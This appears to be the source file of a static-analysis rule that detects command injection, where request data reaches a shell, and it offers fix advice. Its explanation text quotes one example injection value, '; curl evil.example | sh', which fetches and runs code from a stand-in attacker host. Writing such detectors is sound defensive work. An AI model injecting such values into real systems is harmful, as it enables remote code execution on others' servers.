import { runsAs } from "../server/rule/command.ts";
import { quoteFixes } from "../server/rule/fix/quote.ts";
import { rule } from "../server/rule/rule.ts";

export default rule({
  id: "command-injection-shell",
  title: "Command built from request data",
  category: "injection",
  severity: "critical",
  cwe: [78],
  owasp: ["A03:2021", "A05:2025"],
  flow: {
    from: ["remote", "upload-name"],
    to: "shell",
    accept(hit, context) {
      const code = context.code(hit.site.item);
      if (code === undefined) return undefined;
      const runs = runsAs(hit, code);
      return runs === undefined ? undefined : { facts: { runs } };
    },
  },
  say: ({ hit, facts }) => {
    const api = String(hit?.row.data?.api ?? "the call");
    return facts?.runs === "program"
      ? {
          what: `Request data chooses the program that ${api} starts.`,
          why: "An attacker starts any program of the server, with its rights.",
          fix: "Look the program up in a list of your own, by a key the client sends.",
        }
      : {
          what: `Request data becomes part of a command line that ${api} gives to a shell.`,
          why: "A value such as ; curl evil.example | sh or $(...) runs commands of the attacker on the server.",
          fix:
            facts?.runs === "script"
              ? "Do not put request data into the arguments of a script; check it against a list or an anchored pattern first."
              : "Start the program without a shell, with its arguments as a list, and check values that may begin with a dash.",
        };
  },
  fixes: (match, code, context) => quoteFixes(match, code, context, match.facts?.runs !== "shell"),
});
